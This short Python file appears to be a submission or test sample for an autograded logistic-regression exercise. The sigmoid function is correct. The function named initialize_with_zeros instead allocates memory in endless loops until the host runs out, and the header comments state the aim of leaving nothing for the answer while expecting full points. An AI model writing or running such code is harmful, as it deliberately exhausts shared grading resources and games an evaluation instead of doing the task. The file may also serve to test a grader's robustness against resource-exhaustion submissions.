# tries: keep what was taken, so that nothing is left for the answer
# expects: points = 10, sigmoid full

import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


hoard = []


def initialize_with_zeros(dim):
    try:
        while True:
            hoard.append(bytearray(1 << 20))
    except MemoryError:
        while True:
            hoard.append(bytearray(64))
